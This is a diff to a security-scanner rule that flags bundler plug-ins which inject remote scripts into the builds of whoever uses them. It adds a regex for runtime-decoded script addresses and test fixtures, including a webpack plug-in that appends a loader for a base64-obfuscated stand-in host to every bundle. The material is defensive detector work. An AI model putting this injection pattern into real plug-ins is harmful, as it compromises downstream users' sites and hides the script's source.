@@ -14,11 +14,25 @@ export default defineRule({
       script: 'Puts a script from {host} into its page, unasked',
       module: 'Imports a module from {host}, unasked',
       planted: 'Puts a script from {host} into what others build',
+      veiled: 'Puts code into what others build that loads a script, and hides from where',
     },
-    bits: { script: 9, module: 10, planted: 12.5 },
+    bits: { script: 9, module: 10, planted: 12.5, veiled: 13.5 },
   },
   examples: {
     flags: [
+      {
+        title: 'a plug-in adds code to each bundle that loads a script from an encoded address',
+        files: {
+          'package.json': `{"name":"tidy-webpack-plugin","version":"1.0.0","main":"index.js"}`,
+          'index.js': `module.exports = class {
+  apply(compiler) {
+    compiler.hooks.emit.tap('tidy', ({ assets }) => {
+      for (const name in assets) assets[name] = new compiler.webpack.sources.RawSource(assets[name].source() + ';(function(d,s){s=d.createElement("script");s.src=atob("aHR0cHM6Ly9jZG4uaW52YWxpZC9jLmpz");d.body.append(s)})(document)');
+    });
+  }
+};`,
+        },
+      },
       {
         title: 'a player has a page load a script',
         files: {
@@ -49,6 +63,19 @@ export default defineRule({
       },
     ],
     passes: [
+      {
+        title: 'a plug-in adds code to each bundle that loads its chunks',
+        files: {
+          'package.json': `{"name":"tidy-webpack-plugin","version":"1.0.0","main":"index.js"}`,
+          'index.js': `module.exports = class {
+  apply(compiler) {
+    compiler.hooks.emit.tap('tidy', ({ assets }) => {
+      for (const name in assets) assets[name] = new compiler.webpack.sources.RawSource(assets[name].source() + ';(function(d,s){s=d.createElement("script");s.src=__webpack_public_path__+"c.js";d.body.append(s)})(document)');
+    });
+  }
+};`,
+        },
+      },
       {
         title: 'a plug-in of a service that counts visitors adds its script',
         files: {
@@ -126,11 +153,27 @@ const ADDS = /\b(?:transformIndexHtml|generateBundle|renderChunk|processAssets|h
 const SCRIPT =
   /<script\b[^>]{0,200}\bsrc\s*=\s*\\?["']?((?:https?:)?\/\/[\w.-]{4,100})(?=[/"'\\\s>])|createElement\(\\?["'`]script\\?["'`]\)[\s\S]{0,300}\.src\s*=\s*\\?["'`]((?:https?:)?\/\/[\w.-]{4,100})(?=[/"'`\\])/i;
 
+/** The same, of which the address is decoded where the code runs. */
+const VEILED =
+  /createElement\(\\?["'`]script\\?["'`]\)[\s\S]{0,300}\.src\s*=\s*(?:\w{1,20}\.)?(?:atob|unescape|decodeURIComponent|fromCharCode)\(/;
+
 /** Scripts that a plug-in of a bundler writes into the pages and bundles of whoever uses it. */
 function planted(context: FileContext): void {
   const { file, moment } = context;
-  if (moment === 'test' || !ADDS.test(file.text) || !SCRIPT.test(file.text)) return;
-  for (const node of [...context.nodes('Literal'), ...context.nodes('TemplateElement')] as readonly AnyNode[]) {
+  if (moment === 'test' || !ADDS.test(file.text)) return;
+  const texts = [...context.nodes('Literal'), ...context.nodes('TemplateElement')] as readonly AnyNode[];
+  const veiled = VEILED.test(file.text)
+    ? texts.find(node => VEILED.test(spelling(file, node).slice(0, 20_000)) && isInHook(context, node))
+    : undefined;
+  if (veiled) {
+    context.report({
+      messageId: 'veiled',
+      chain: [step('sink', 'writes down a script for what is built', file, veiled)],
+    });
+    return;
+  }
+  if (!SCRIPT.test(file.text)) return;
+  for (const node of texts) {
     const [, marked, made] = SCRIPT.exec(spelling(file, node).slice(0, 20_000)) ?? [];
     const address = marked ?? made;
     const host = address && foreignHost(context, `https://${address.replace(/^(?:https?:)?\/\//i, '')}/`);
